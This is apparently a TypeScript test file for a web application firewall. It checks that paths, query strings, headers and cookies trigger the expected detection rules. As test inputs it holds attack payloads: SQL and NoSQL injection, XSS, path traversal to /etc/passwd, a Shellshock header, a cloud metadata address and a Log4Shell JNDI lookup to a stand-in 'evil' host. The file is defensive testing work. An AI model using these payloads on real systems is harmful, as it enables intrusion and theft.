import t from 'tap';
import { RuleSet, Scan } from '../../src/waf/engine.js';
import { inspectHead } from '../../src/waf/targets.js';
import { Exclusions } from '../../src/waf/exclusions.js';
import { makeCtx } from './helpers.js';
import type { CtxOptions } from './helpers.js';

function head(o: CtxOptions, exclusions?: Exclusions): number[] {
  const scan = new Scan();
  if (exclusions) scan.reset(exclusions);
  const ctx = makeCtx(o);
  inspectHead(new RuleSet(1), scan, ctx);
  return scan.ids ?? [];
}

void t.test('path: whole and per segment', async (t) => {
  t.ok(head({ path: '/api/v1/users/1%20OR%201%3D1%20LIMIT%201/profile' }).includes(942150), 'a segment is an argument value');
  t.ok(head({ path: '/WEB-INF/web.xml' }).includes(930130));
  t.same(head({ path: '/api/v1/orders/ord_8f3a2c91/items' }), []);
});

void t.test('query: names and values, form-decoded', async (t) => {
  t.ok(head({ query: 'q=%27+or+%271%27%3D%271' }).includes(942100), '+ is a space');
  t.ok(head({ query: 'username[$regex]=^a.*' }).includes(942290), 'operator in a name');
  t.ok(head({ query: '__proto__[admin]=1' }).includes(934130));
  t.ok(head({ query: '%3Cscript%3E' }).includes(941110), 'a name without a value');
  t.same(head({ query: 'page=3&per_page=25&status=shipped&sort=-created_at' }), []);
});

void t.test('headers: inspected, structural, duplicates', async (t) => {
  t.ok(head({ headers: { 'x-customer-ref': "1' AND '1'='1" } }).includes(942100), 'a custom header is inspected');
  t.ok(head({ headers: { 'user-agent': 'sqlmap/1.7' } }).includes(913100));
  t.ok(head({ headers: { 'x-forwarded-host': '169.254.169.254' } }).includes(934110));
  t.ok(head({ headers: { host: '${jndi:ldap://evil/h}' } }).includes(944150), 'Log4Shell reads every header');
  t.same(head({ headers: { 'if-none-match': 'W/"x" or "y"="y"', 'sec-ch-ua': '"Chromium";v="124", "Not-A.Brand";v="99"' } }), [], 'structural headers skip the argument rules');
  const ctx = makeCtx({ headers: { referer: 'https://app.example.com/' } });
  ctx.rawHeaders = ['Referer', 'https://app.example.com/', 'Referer', '() { :;}; /usr/bin/id'];
  const scan = new Scan();
  inspectHead(new RuleSet(1), scan, ctx);
  t.ok(scan.ids?.includes(932140), 'the copy Node drops from req.headers is inspected from rawHeaders');
});

void t.test('cookies: names and decoded values; exclusions by cookie name', async (t) => {
  t.ok(head({ headers: { cookie: 'theme=dark; cart=%3Cinput%20onfocus%3Dalert(1)%3E' } }).includes(941120));
  t.ok(head({ headers: { cookie: 'lang=../../../../etc/passwd' } }).includes(930110));
  t.same(head({ headers: { cookie: 'rv=sku-1|sku-2; ab_test=checkout_v2:b; _ga=GA1.2.1.2' } }), []);
  t.same(head({ headers: { cookie: 'cart=<script>' } }, new Exclusions([{ rules: [941110], target: 'cookies:cart' }])), []);
});
